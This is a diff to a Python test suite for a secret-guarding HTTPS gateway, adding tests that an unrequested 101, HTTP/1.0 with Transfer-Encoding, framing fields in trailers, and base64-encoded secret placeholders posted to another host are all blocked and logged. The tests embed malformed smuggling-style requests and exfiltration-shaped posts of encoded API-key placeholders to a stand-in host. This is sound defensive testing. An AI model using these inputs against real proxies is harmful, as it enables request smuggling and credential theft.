@@ -7,6 +7,7 @@ upstream that keeps connections alive and answers by path:
   /te-gzip     Transfer-Encoding: gzip, chunked, the body echoing Authorization
   /ws-refuse   426 to an Upgrade offer (the connection stays HTTP)
   /ws-101      101, then echoes the byte count of what it receives
+  /unasked-101 101 to a request that offered no upgrade, then the Authorization echo
   anything     200 "ok"
 It records what it received (whether the value arrived, never the value) in resp.jsonl.
 """
@@ -38,13 +39,13 @@ class Env(base.Env):
             "uri": "$request_uri", "host": "$host", "server": "$server_addr:$server_port",
             "accept_encoding": "$http_accept_encoding", "te": "$http_te", "upgrade": "$http_upgrade",
             "http2_settings": "$http_http2_settings", "connection": "$http_connection",
-            "authorization": "$http_authorization",
+            "authorization": "$http_authorization", "status": "$status",
         }, f"""\
             server {{
               listen 203.0.113.10:443 ssl; listen 203.0.113.11:443 ssl; listen 203.0.113.10:80; listen 203.0.113.11:80;
               ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.key;
               gzip on; gzip_min_length 0; gzip_types *;
-              location / {{ echo "ok"; }}
+              location / {{ echo_read_request_body; echo "ok"; }}
             }}
             """)
 
@@ -90,6 +91,8 @@ class Env(base.Env):
                                   + body + b"\\r\\n0\\r\\n\\r\\n")
                     elif path == "/ws-refuse":
                         t.sendall(b"HTTP/1.1 426 Upgrade Required\\r\\nContent-Length: 0\\r\\n\\r\\n")
+                    elif path == "/unasked-101":
+                        t.sendall(b"HTTP/1.1 101 Switching Protocols\\r\\nUpgrade: h2c\\r\\nConnection: Upgrade\\r\\n\\r\\n" + echo)
                     elif path == "/ws-101":
                         t.sendall(b"HTTP/1.1 101 Switching Protocols\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n")
                         data = buf
@@ -342,3 +345,84 @@ def test_proxy_refused_upgrade_then_another_host_never_reaches_the_first_upstrea
     assert first["server"] == "203.0.113.10:80"
     time.sleep(0.5)
     env.upstream.assert_not_received("/pu-second")
+
+
+def test_a_101_nobody_asked_for_is_refused(env):
+    before = len(blocked_responses(env))
+    r = env.python(RAW_TLS % env.path("gateway-ca.pem") + """
+    s.sendall(b"GET /unasked-101 HTTP/1.1\\r\\nHost: resp.example.com\\r\\nAuthorization: Bearer $MSB_RESP_KEY\\r\\n\\r\\n")
+    print(answer())
+    """)
+    assert r.stdout.strip() in ("reset", "closed"), r.stdout + r.stderr
+    assert env.received("/unasked-101")[0]["value_arrived"]
+    wait_for(lambda: len(blocked_responses(env)) > before, "a blocked-response record")
+    assert "switching_protocols_without_upgrade_offer" in blocked_responses(env)[-1]["reason"]
+
+
+# ---------------------------------------------------------------- item 5: framing
+
+def test_http10_with_transfer_encoding_is_blocked(env):
+    # RFC 9112 6.1: the framing of an HTTP/1.0 message with Transfer-Encoding is faulty.
+    r = env.python(RAW_TLS.replace("resp.example.com", "api.example.com") % env.path("gateway-ca.pem") + """
+    s.sendall(b"POST /h10-te HTTP/1.0\\r\\nHost: api.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
+              b"5\\r\\nhello\\r\\n0\\r\\n\\r\\n")
+    print(answer())
+    """)
+    assert r.stdout.strip() in ("reset", "closed"), r.stdout + r.stderr
+    time.sleep(0.3)
+    env.upstream.assert_not_received("/h10-te")
+    assert any(a["event"] == "blocked" and "transfer_encoding_in_http10" in a.get("reason", "") for a in env.audit())
+
+
+def test_framing_fields_in_trailers_are_blocked(env):
+    r = env.python(RAW_TLS.replace("resp.example.com", "api.example.com") % env.path("gateway-ca.pem") + """
+    s.sendall(b"POST /trailer-cl HTTP/1.1\\r\\nHost: api.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
+              b"5\\r\\nhello\\r\\n0\\r\\nContent-Length: 5\\r\\n\\r\\n")
+    print(answer())
+    """)
+    assert r.stdout.strip() in ("reset", "closed"), r.stdout + r.stderr
+    assert any(a["event"] == "blocked" and "forbidden_trailer" in a.get("reason", "") for a in env.audit())
+
+
+# ---------------------------------------------------------------- item 7: bodies
+
+def test_a_base64_placeholder_in_a_body_to_another_host_is_a_violation(env):
+    # Before issue 12 only heads were searched for base64 forms: this body was forwarded.
+    import base64
+    for lead in ("", "x", "xy"):  # the three alignments
+        token = base64.b64encode((lead + base.PH + "!").encode()).decode()
+        marker = f"/b64-body-{len(lead)}"
+        before = len([a for a in env.audit() if a["event"] == "violation"])
+        r = env.curl("--data-binary", f"token={token}", f"https://other.example.com{marker}")
+        assert r.returncode == 56, (lead, r.returncode, r.stderr)
+        time.sleep(0.3)
+        env.upstream.assert_not_received(marker)
+        wait_for(lambda: len([a for a in env.audit() if a["event"] == "violation"]) > before, "a violation record")
+        assert [a for a in env.audit() if a["event"] == "violation"][-1]["location"] == "body"
+
+
+def base64_body_violations(env):
+    return [a for a in env.audit() if a["event"] == "violation" and a["location"] == "body" and "base64" in a["reason"]]
+
+
+def test_a_base64url_placeholder_split_across_chunks_is_a_violation(env):
+    # python requests sends a generator body chunked: the form is cut between two chunks.
+    before = len(base64_body_violations(env))
+    r = env.python("""
+        import base64, requests
+        token = base64.urlsafe_b64encode(b"ab$MSB_API_KEY").decode().rstrip("=")
+        def body():
+            yield ("data=" + token[:7]).encode()
+            yield token[7:].encode()
+        try:
+            r = requests.post("https://other.example.com/b64url-chunks", data=body(), verify=%r, timeout=10)
+            print("status", r.status_code)
+        except requests.exceptions.ConnectionError:
+            print("reset")
+    """ % env.path("gateway-ca.pem"))
+    assert r.stdout.strip() == "reset", r.stdout + r.stderr
+    wait_for(lambda: len(base64_body_violations(env)) > before, "a base64 violation in the body")
+    # A streamed body cannot be recalled: the head and the first chunk left before the second
+    # chunk completed the form; the upstream connection is then reset, the request never served.
+    time.sleep(0.3)
+    assert all(rec["status"] != "200" for rec in env.upstream.received("/b64url-chunks"))
